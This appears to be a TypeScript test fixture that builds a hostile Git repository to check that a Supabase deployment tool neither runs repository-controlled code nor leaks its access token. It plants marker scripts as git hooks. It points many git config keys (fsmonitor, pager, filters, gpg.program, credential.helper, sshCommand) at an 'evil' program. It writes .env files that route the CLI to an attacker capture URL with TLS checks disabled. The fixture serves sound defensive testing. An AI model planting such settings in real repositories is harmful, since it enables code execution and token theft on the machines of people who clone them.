/** A repository that tries everything it can to have code run and to get hold of the access token. */
import { chmod, mkdir, readFile, writeFile } from 'node:fs/promises';
import path from 'node:path';
import type { TestRepository } from '../fixtures/repository.ts';

export const slug = 'health';
export const entrypoint = `supabase/functions/${slug}/index.ts`;
export const shared = 'supabase/functions/_shared/log.ts';

export class HostileRepository {
  readonly repository: TestRepository;
  /** Every program of the attacker writes its own name here. */
  readonly marker: string;
  /** The older commit, which a rollback goes to. */
  good = '';

  constructor(repository: TestRepository) {
    this.repository = repository;
    this.marker = path.join(path.dirname(repository.folder), 'ran.txt');
  }

  /** What ran so far. */
  async ran(): Promise<string> {
    return readFile(this.marker, 'utf8').catch(() => '');
  }

  async forget(): Promise<void> {
    await writeFile(this.marker, '');
  }

  async build(captureUrl: string): Promise<void> {
    const { repository } = this;
    this.good = await repository.commit('Good', {
      [entrypoint]: 'import { log } from "../_shared/log.ts";\nDeno.serve(() => new Response(log("good")));\n',
      [shared]: 'export const log = (text: string) => text;\n',
      'supabase/config.toml': `project_id = "acme"\n\n[functions.${slug}]\nverify_jwt = false\n`,
      '.gitattributes': '* filter=evil diff=evil\n',
      ...environmentFiles(captureUrl),
    });
    await repository.commit('Broken', { [shared]: 'export const log = 1;\n' });
    await this.sign();
    await this.plantPrograms();
    await this.plantGitSettings();
  }

  /** HEAD gets a signature, so that git has something to have checked by `gpg.program`. */
  private async sign(): Promise<void> {
    const { repository } = this;
    const commit = repository.git('cat-file', 'commit', 'HEAD');
    const signature = 'gpgsig -----BEGIN PGP SIGNATURE-----\n \n iQ==\n =AAAA\n -----END PGP SIGNATURE-----\n';
    const file = path.join(path.dirname(repository.folder), 'signed-commit');
    await writeFile(file, commit.replace('\n\n', `\n${signature}\n`));
    const hash = repository.git('hash-object', '-t', 'commit', '-w', file).trim();
    repository.git('update-ref', 'HEAD', hash);
  }

  /** Programs with the names that are looked for, in the workspace. */
  private async plantPrograms(): Promise<void> {
    for (const name of ['git', 'node_modules/.bin/supabase', 'node_modules/.bin/git', 'bin/git', 'bin/supabase', 'evil']) {
      await this.program(path.join(this.repository.folder, name));
    }
  }

  private async plantGitSettings(): Promise<void> {
    const { repository } = this;
    const evil = path.join(repository.folder, 'evil');
    for (const hook of ['post-checkout', 'post-index-change', 'reference-transaction', 'pre-auto-gc', 'fsmonitor-watchman']) {
      await this.program(path.join(repository.folder, 'hooks', hook));
    }
    const settings = {
      'core.fsmonitor': evil,
      'core.hooksPath': path.join(repository.folder, 'hooks'),
      'core.pager': evil,
      'core.editor': evil,
      'core.sshCommand': evil,
      'core.alternateRefsCommand': evil,
      'filter.evil.smudge': evil,
      'filter.evil.clean': evil,
      'filter.evil.process': evil,
      'diff.evil.textconv': evil,
      'diff.external': evil,
      'log.showSignature': 'true',
      'gpg.program': evil,
      'alias.log': `!${evil}`,
      'alias.ls-tree': `!${evil}`,
      'pager.log': evil,
      'credential.helper': `!${evil}`,
      'remote.origin.url': 'ssh://evil.example/x',
      'remote.origin.promisor': 'true',
      'remote.origin.uploadpack': evil,
      'extensions.partialClone': 'origin',
    };
    repository.git('config', 'core.repositoryformatversion', '1');
    Object.entries(settings).forEach(([key, value]) => repository.git('config', key, value));
  }

  private async program(file: string): Promise<void> {
    await mkdir(path.dirname(file), { recursive: true });
    await writeFile(file, `#!/bin/sh\necho "${path.relative(this.repository.folder, file)} $*" >> '${this.marker}'\n`);
    await chmod(file, 0o755);
  }
}

/** Each names the attacker's server in its own way; the CLI reads such files in its current directory. */
function environmentFiles(captureUrl: string): Record<string, string> {
  const environment = ['SUPABASE_PROFILE=./evil.yaml', `HTTPS_PROXY=${captureUrl}`, `HTTP_PROXY=${captureUrl}`, 'NODE_TLS_REJECT_UNAUTHORIZED=0', 'SUPABASE_YES=1', ''].join('\n');
  const profile = `name: evil\napi_url: ${captureUrl}\ndashboard_url: ${captureUrl}\nproject_host: evil.test\n`;
  const names = ['.env', '.env.local', '.env.development', '.env.production', 'supabase/.env', 'supabase/.env.local', 'supabase/functions/.env', `supabase/functions/${slug}/.env`];
  const profiles = ['evil.yaml', 'supabase/evil.yaml'];
  return Object.fromEntries([...names.map((name) => [name, environment] as const), ...profiles.map((name) => [name, profile] as const)]);
}
